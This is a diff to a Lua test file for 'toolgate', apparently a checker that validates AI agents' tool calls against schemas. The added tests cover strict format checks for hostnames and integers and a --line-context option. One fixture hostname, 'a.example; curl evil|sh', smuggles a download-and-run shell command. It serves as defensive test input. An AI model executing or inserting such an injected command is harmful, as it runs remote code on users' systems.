@@ -132,7 +132,7 @@ describe("toolgate check", function()
     assert.matches("no shipped policy named 'nosuchpolicy'", err, 1, true)
   end)
 
-  it("runs the policy's whole pipeline: --policy by name, --context, a context per line", function()
+  it("runs the policy's whole pipeline: --policy by name, --context, a trusted context per line", function()
     local base = "cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy mcp" ..
       " --registry examples/registries/mcp-filesystem.json"
     local line = '{"server":"filesystem","name":"read_text_file","arguments":{"path":"/a"}}\n'
@@ -144,11 +144,61 @@ describe("toolgate check", function()
     code, out = h.run(base .. " --context examples/calls/context.json", line)
     assert.equal(0, code)
     assert.equal("accept", decisions(out)[1].verdict)
-    code, out = h.run(base, '{"server":"filesystem","name":"read_text_file","arguments":{"path":"/a"},'
-      .. '"context":{"scopes":["filesystem:read"],"max_risk":"low"}}\n')
+    code, out = h.run(base .. " --line-context", '{"server":"filesystem","name":"read_text_file",'
+      .. '"arguments":{"path":"/a"},"context":{"scopes":["filesystem:read"],"max_risk":"low"}}\n')
     assert.equal(0, code)
     assert.equal("accept", decisions(out)[1].verdict)
   end)
+
+  it("--policy strict asserts formats: a shell command is no hostname, 2147483648 no int32", function()
+    local base = "cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy strict" ..
+      " --registry spec/data/registries/formats.json"
+    local code, out, err = h.run(base, table.concat({
+      '{"server":"net","name":"ping","arguments":{"host":"a.example; curl evil|sh"}}',
+      '{"server":"net","name":"ping","arguments":{"host":"a.example","count":2147483648}}',
+      '{"server":"net","name":"ping","arguments":{"host":"a.example","request_id":9223372036854775808}}',
+      '{"server":"net","name":"ping","arguments":{"host":"a.example.","count":2147483647,' ..
+        '"request_id":9223372036854775807,"deadline":"2026-01-01T00:00:00Z","callback":"https://x.example/cb"}}',
+    }, "\n") .. "\n")
+    assert.equal(0, code, err)
+    local d = decisions(out)
+    for i, want in ipairs({ "/host", "/count", "/request_id" }) do
+      assert.equal("reject", d[i].verdict, "line " .. i)
+      assert.equal("H3", d[i].code, "line " .. i)
+      assert.equal("format", d[i].keyword, "line " .. i)
+      assert.equal(want, d[i].path, "line " .. i)
+    end
+    assert.matches("is not a valid hostname", d[1].message, 1, true)
+    assert.matches("2147483648 is not a valid int32", d[2].message, 1, true)
+    assert.not_equal("rung", d[4].stage) -- the rung accepts the valid values
+    -- the default policy leaves formats annotations
+    code, out = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check" ..
+      " --registry spec/data/registries/formats.json",
+      '{"server":"net","name":"ping","arguments":{"host":"a.example; curl evil|sh"}}\n')
+    assert.equal(0, code)
+    assert.not_equal("rung", decisions(out)[1].stage)
+  end)
+
+  it("--policy strict refuses to load a format it cannot assert, unless the policy lists it as an annotation",
+    function()
+      local code, _, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy strict" ..
+        " --registry spec/data/registries/formats_unknown.json", "{}\n")
+      assert.equal(2, code)
+      assert.matches("UNSUPPORTED_FORMAT", err, 1, true)
+      assert.matches('tool "resolve"', err, 1, true)
+      assert.matches("/inputSchema/properties/name/format", err, 1, true)
+      assert.matches('"idn-hostname"', err, 1, true)
+      local policy = h.tmpname(".lua")
+      h.write_file(policy, "return { name = 'strict-idn', version = '1', registry = { assert_formats = true," ..
+        " annotation_formats = { 'idn-hostname' } } }")
+      local out
+      code, out, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy " .. policy ..
+        " --registry spec/data/registries/formats_unknown.json",
+        '{"server":"net","name":"resolve","arguments":{"name":"b\195\188cher.example"}}\n')
+      os.remove(policy)
+      assert.equal(0, code, err)
+      assert.not_equal("rung", decisions(out)[1].stage)
+    end)
 
   it("refuses a policy that puts the gate before the rung", function()
     local bad = h.tmpname(".lua")
